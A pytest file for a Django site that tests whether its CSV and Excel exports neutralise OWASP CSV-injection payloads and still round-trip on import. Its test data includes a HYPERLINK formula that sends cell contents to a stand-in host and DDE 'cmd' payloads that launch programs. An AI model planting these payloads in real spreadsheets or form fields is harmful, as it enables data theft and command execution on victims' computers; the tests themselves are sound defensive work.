"""No CSV or spreadsheet the site writes holds a formula taken from someone's text (OWASP
CSV injection): public practice exports, the admin export of applications to calls, the
self-assessment CSV. Exported files still import back unchanged."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.core.cache import cache
from django.utils import timezone
from openpyxl import load_workbook

from core.spreadsheets import FORMULA_START, neutralise, restore
from practices.exchange import export_records
from practices.models import PracticePage
from tests.assessment.test_assessment import start
from tests.factories import PracticePageFactory
from tests.participation.test_calls import ANSWERS, make_call
from tests.practices.test_import_export import run_import

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("small_corpus")]
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+33 4 92 00 00 00 =1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "'=already quoted"]


def dangerous(cell):
    """What a spreadsheet would run: text starting with a formula character."""
    return isinstance(cell, str) and cell.startswith(FORMULA_START) and not cell.lstrip(
        "-").replace(".", "", 1).isdigit()


def test_neutralise_and_restore_are_exact_inverses():
    for text in [*PAYLOADS, "-12.5", "plain", "'s-Hertogenbosch", "", "''=x"]:
        assert restore(neutralise(text)) == text
        assert not dangerous(neutralise(text))
    assert neutralise(-12.5) == -12.5 and neutralise("-12.5") == "-12.5"


@pytest.fixture
def hostile_practice():
    return PracticePageFactory(
        title=PAYLOADS[0], summary=PAYLOADS[1], region=PAYLOADS[2], territory=PAYLOADS[3],
        lead_organisation=PAYLOADS[4], resources=PAYLOADS[5], lessons=PAYLOADS[6],
        external_id="hostile-1", tags=["=cmd"])


def test_public_csv_and_xlsx_exports_hold_no_formula(client, hostile_practice):
    body = client.get("/exports/practices.csv", {"q": "HYPERLINK"}).getvalue().decode()
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 2 and cells, body
    assert [c for c in cells if dangerous(c)] == []
    assert "'=HYPERLINK(" in body
    sheet = load_workbook(io.BytesIO(client.get("/exports/practices.xlsx").getvalue())).active
    data_types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in data_types
    assert PAYLOADS[0] in [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_file_imports_back_with_the_same_text(client, tmp_path, hostile_practice,
                                                          fmt):
    before = export_records(PracticePage.objects.filter(pk=hostile_practice.pk))[0]
    path = tmp_path / f"practices.{fmt}"
    path.write_bytes(client.get(f"/exports/practices.{fmt}", {"q": "HYPERLINK"}).getvalue())
    PracticePage.objects.filter(pk=hostile_practice.pk).update(title="changed", region="")
    ok, out, err = run_import(path)
    assert ok, out + err
    after = export_records(PracticePage.objects.filter(external_id="hostile-1"))[0]
    for name in ("title", "summary", "region", "territory", "lead_organisation", "resources",
                 "lessons", "tags"):
        # (the importer trims surrounding whitespace, as for any import)
        assert after[name] == (before[name].strip() if name != "tags" else before[name]), name


def test_admin_export_of_applications_holds_no_formula(client, django_user_model, settings,
                                                       tmp_path):
    settings.KB_PRIVATE_MEDIA_ROOT = tmp_path / "private"
    cache.clear()
    now = timezone.now()
    call = make_call(now - timedelta(days=1), now + timedelta(days=1))
    client.post(call.url, {**ANSWERS, "applicant_name": PAYLOADS[0], "territory": PAYLOADS[1],
                           "actions": PAYLOADS[3], "motivations": PAYLOADS[4]})
    editor = django_user_model.objects.create_user("sel", "sel@example.org", "pw")
    editor.groups.add(Group.objects.get(name="Editors"))
    client.force_login(editor)
    export = client.get("/admin/applications/?export=csv")
    body = b"".join(export.streaming_content).decode()
    cells = [cell for row in list(csv.reader(io.StringIO(body)))[1:] for cell in row]
    assert "'=HYPERLINK(" in body and len(cells) > 10
    assert [c for c in cells if dangerous(c)] == []
    xlsx = b"".join(client.get("/admin/applications/?export=xlsx").streaming_content)
    sheet = load_workbook(io.BytesIO(xlsx))
    assert "f" not in {c.data_type for row in sheet.active.iter_rows() for c in row}


def test_self_assessment_csv_holds_no_formula(client):
    cache.clear()
    assessment = start(client, territory_name="=HYPERLINK(\"http://evil.example\")")
    body = client.get(f"/en/assessment/{assessment.token}/answers.csv").content.decode(
        "utf-8-sig")
    cells = [cell for row in list(csv.reader(io.StringIO(body)))[1:] for cell in row]
    assert cells and [c for c in cells if dangerous(c)] == []
    assert json.dumps("'=HYPERLINK")[1:-1] in body
